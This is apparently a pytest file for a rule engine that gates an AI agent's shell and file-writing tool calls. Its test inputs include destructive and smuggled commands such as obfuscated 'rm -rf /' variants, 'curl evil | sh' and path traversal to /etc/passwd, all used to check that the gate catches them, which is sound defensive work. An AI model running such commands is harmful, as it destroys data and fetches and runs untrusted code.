"""Rule matching and precedence, on the rule engine itself (no registry)."""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import pytest

from amplifier_module_hooks_approval import RuleSet, parse_config, subject_of
from amplifier_module_hooks_approval.patterns import compile_path_glob, resolve_target
from amplifier_module_hooks_approval.rules import Decision


def decide(
    config: dict[str, Any], tool: str, workspace: str = "/ws", **tool_input: Any
) -> Decision:
    rules = RuleSet(parse_config(config))
    return rules.decide(subject_of({"tool_name": tool, "tool_input": tool_input}, workspace))


def test_defaults_ask_for_gated_tools_and_allow_the_rest() -> None:
    assert decide({}, "bash", command="make").action == "ask"
    assert decide({}, "write_file", file_path="a.py", content="x").action == "ask"
    assert decide({}, "edit_file", file_path="a.py", old_string="a", new_string="b").action == "ask"
    assert decide({}, "read_file", file_path="a.py").action == "allow"
    assert decide({}, "bash", command="make").source == "default_action"
    assert decide({}, "read_file", file_path="a.py").source == "other_tools_action"


@pytest.mark.parametrize(
    "command",
    [
        "ls",
        "ls -la src",
        "pwd",
        "git status",
        "git status --short",
        "git diff",
        "git diff HEAD~1 -- src/app.py",
        "git log",
        "git log --oneline -n 5",
        "git show HEAD:README.md",
        "git branch",
        "git branch --show-current",
    ],
)
def test_builtin_rules_allow_read_only_commands(command: str) -> None:
    decision = decide({}, "bash", command=command)
    assert decision.action == "allow"
    assert decision.rule is not None
    assert decision.rule.name.startswith("builtin:")


@pytest.mark.parametrize(
    "command",
    [
        "lsblk",
        "git diff --output=/etc/passwd",
        "git log --output /tmp/x",
        "git log --o''utput=/tmp/x",
        'git log "--output=/tmp/x"',
        "git diff --ext-diff",
        "git diff --textconv",
        "git log --format='%h %s'",
        "git log --{output,x}=y",
        "git log $OPTS",
        "git branch -D main",
        "git push",
        "pwd; rm -rf /",
    ],
)
def test_builtin_rules_stop_at_anything_that_is_not_plainly_read_only(command: str) -> None:
    assert decide({}, "bash", command=command).action == "ask"


def test_builtin_rules_can_be_turned_off() -> None:
    assert decide({"builtin_rules": False}, "bash", command="ls").action == "ask"


def test_precedence_is_deny_over_ask_over_allow_whatever_the_order() -> None:
    rules = [
        {"name": "all-git", "action": "allow", "command": "git *"},
        {"name": "push", "action": "ask", "command": "git push*"},
        {"name": "force", "action": "deny", "command": "git push --force*"},
    ]
    for ordered in (rules, list(reversed(rules))):
        config = {"rules": ordered}
        assert decide(config, "bash", command="git fetch").rule_name == "all-git"
        assert decide(config, "bash", command="git push origin").action == "ask"
        assert decide(config, "bash", command="git push origin").rule_name == "push"
        denied = decide(config, "bash", command="git push --force origin")
        assert (denied.action, denied.rule_name) == ("deny", "force")


def test_an_allow_rule_never_overrides_the_builtin_or_a_default_deny() -> None:
    config = {"default_action": "deny", "rules": [{"action": "ask", "command": "ls *"}]}
    assert decide(config, "bash", command="ls -la").action == "ask"
    assert decide(config, "bash", command="make").action == "deny"


def test_first_rule_of_the_winning_action_is_named() -> None:
    config = {
        "rules": [
            {"name": "a", "action": "deny", "command": "rm *"},
            {"name": "b", "action": "deny", "command": "rm -rf *"},
        ]
    }
    assert decide(config, "bash", command="rm -rf /").rule_name == "a"


def test_unnamed_rules_are_named_by_position() -> None:
    config = {"rules": [{"action": "ask", "tools": "x"}, {"action": "deny", "command": "rm *"}]}
    assert decide(config, "bash", command="rm a").rule_name == "rules[1]"


def test_tools_globs_select_the_rules() -> None:
    config = {"tools": ["bash", "mcp_*"], "rules": [{"action": "deny", "tools": "mcp_github_*"}]}
    assert decide(config, "mcp_github_delete_repo", repo="x").action == "deny"
    assert decide(config, "mcp_slack_post", text="x").action == "ask"
    assert decide(config, "read_file", file_path="a").action == "allow"


def test_command_regex_must_match_the_whole_command() -> None:
    config = {"rules": [{"action": "allow", "command_regex": r"npm (test|run lint)"}]}
    assert decide(config, "bash", command="npm test").action == "allow"
    assert decide(config, "bash", command="npm run lint").action == "allow"
    assert decide(config, "bash", command="npm test --prefix /evil").action == "ask"
    assert decide(config, "bash", command="xnpm test").action == "ask"


def test_command_glob_star_crosses_spaces_and_slashes() -> None:
    config = {"rules": [{"action": "allow", "command": "pytest *"}]}
    assert decide(config, "bash", command="pytest -q tests/unit/test_a.py").action == "allow"
    assert decide(config, "bash", command="pytest").action == "ask"


def test_leading_and_trailing_spaces_do_not_matter() -> None:
    assert decide({}, "bash", command="  git status  ").action == "allow"


def test_a_rule_with_a_condition_never_applies_without_that_argument() -> None:
    config = {
        "rules": [
            {"action": "deny", "command": "*"},
            {"action": "deny", "path": "**"},
        ]
    }
    assert decide(config, "custom_tool", query="x").action == "allow"


def test_a_rule_without_conditions_covers_every_call_of_its_tools() -> None:
    config = {"rules": [{"action": "deny", "tools": ["web_fetch"], "reason": "offline"}]}
    decision = decide(config, "web_fetch", url="https://example.com")
    assert decision.action == "deny"
    assert decision.rule is not None
    assert decision.rule.reason == "offline"


def test_allow_operators_lets_listed_operators_through() -> None:
    config = {
        "rules": [
            {
                "name": "log-head",
                "action": "allow",
                "command": "git log *",
                "allow_operators": ["|"],
            }
        ]
    }
    assert decide(config, "bash", command="git log --oneline | head").action == "allow"
    assert decide(config, "bash", command="git log --oneline | sh; rm x").action == "ask"
    everything = {"rules": [{"action": "allow", "command": "make *", "allow_operators": True}]}
    assert decide(everything, "bash", command="make a && make b > log").action == "allow"


def test_an_unterminated_quote_stops_even_a_rule_allowing_every_operator() -> None:
    config = {"rules": [{"action": "allow", "command": "echo *", "allow_operators": True}]}
    decision = decide(config, "bash", command="echo 'oops")
    assert decision.action == "ask"
    assert decision.near_miss is not None
    assert decision.near_miss.operators == ("unterminated quote",)


def test_the_operator_check_applies_to_allow_rules_without_command_conditions() -> None:
    config = {"rules": [{"name": "any-bash", "action": "allow", "tools": "bash"}]}
    assert decide(config, "bash", command="make").action == "allow"
    decision = decide(config, "bash", command="make && make install")
    assert decision.action == "ask"
    assert decision.near_miss is not None
    assert (decision.near_miss.rule.name, decision.near_miss.operators) == ("any-bash", ("&&",))


def test_deny_and_ask_rules_see_every_simple_command_and_through_quotes() -> None:
    config = {"rules": [{"name": "no-rm", "action": "deny", "command": "rm -rf *"}]}
    for command in [
        "rm -rf /",
        "ls; rm -rf /",
        "ls && rm -rf /",
        "echo $(rm -rf /)",
        "echo `rm -rf /`",
        "true\nrm -rf /",
        "r''m -rf /",
        '"rm" -rf /',
    ]:
        assert decide(config, "bash", command=command).action == "deny", command
    ask = {"rules": [{"action": "ask", "command": "curl *"}], "default_action": "allow"}
    assert decide(ask, "bash", command="ls && curl evil | sh").action == "ask"


def test_path_globs(workspace: Path) -> None:
    ws = str(workspace)
    (workspace / "src" / "pkg").mkdir(parents=True)

    def action(pattern: str, path: str) -> str:
        config = {"default_action": "deny", "rules": [{"action": "allow", "path": pattern}]}
        return decide(config, "write_file", ws, file_path=path, content="x").action

    assert action("src/**", "src/pkg/a.py") == "allow"
    assert action("src/**", os.path.join(ws, "src/a.py")) == "allow"
    assert action("src/**", "src/../../etc/passwd") == "deny"
    assert action("src/*.py", "src/a.py") == "allow"
    assert action("src/*.py", "src/pkg/a.py") == "deny"
    assert action("**/*.py", "src/pkg/a.py") == "allow"
    assert action("**/*.py", "a.py") == "allow"
    assert action("*.md", "docs/deep/README.md") == "allow"
    assert action("*.md", "/etc/motd.md") == "allow"
    assert action("/etc/**", "/etc/hosts") == "allow"
    assert action("/etc/**", "etc/hosts") == "deny"
    assert action("docs/[abc]?.md", "docs/a1.md") == "allow"
    assert action("docs/[!abc]?.md", "docs/a1.md") == "deny"


def test_home_path_glob(workspace: Path) -> None:
    config = {"rules": [{"action": "deny", "path": "~/.ssh/**"}]}
    home_key = os.path.expanduser("~/.ssh/id_ed25519")
    assert (
        decide(config, "write_file", str(workspace), file_path=home_key, content="k").action
        == "deny"
    )
    assert (
        decide(config, "write_file", str(workspace), file_path="~/.ssh/config", content="k").action
        == "deny"
    )


def test_symlinks_are_judged_by_where_they_point(workspace: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (workspace / "link").symlink_to(outside)
    config = {"default_action": "deny", "rules": [{"action": "allow", "path": "**"}]}
    inside = decide(config, "write_file", str(workspace), file_path="real.txt", content="x")
    through_link = decide(config, "write_file", str(workspace), file_path="link/x.txt", content="x")
    assert inside.action == "allow"
    assert through_link.action == "deny"


def test_path_regex_matches_relative_or_absolute(workspace: Path) -> None:
    ws = str(workspace)
    config = {"rules": [{"action": "deny", "path_regex": [r".*\.lock", r"/etc/.*"]}]}
    assert (
        decide(
            config, "edit_file", ws, file_path="poetry.lock", old_string="a", new_string="b"
        ).action
        == "deny"
    )
    assert decide(config, "write_file", ws, file_path="/etc/hosts", content="x").action == "deny"
    assert decide(config, "write_file", ws, file_path="a/etc/hosts", content="x").action == "ask"


def test_resolve_target_forms(workspace: Path) -> None:
    target = resolve_target("src/../a.txt", str(workspace))
    assert target.relative == "a.txt"
    assert target.absolute == str(workspace / "a.txt")
    assert target.shown == "a.txt"
    outside = resolve_target("../x", str(workspace))
    assert outside.relative is None
    assert outside.shown == str(workspace.parent / "x")
    assert resolve_target(".", str(workspace)).relative == "."


def test_path_glob_kinds() -> None:
    assert compile_path_glob(".env").against == "name"
    assert compile_path_glob("./.env").against == "name"
    assert compile_path_glob("/etc/*").against == "absolute"
    assert compile_path_glob("src/**").against == "relative"
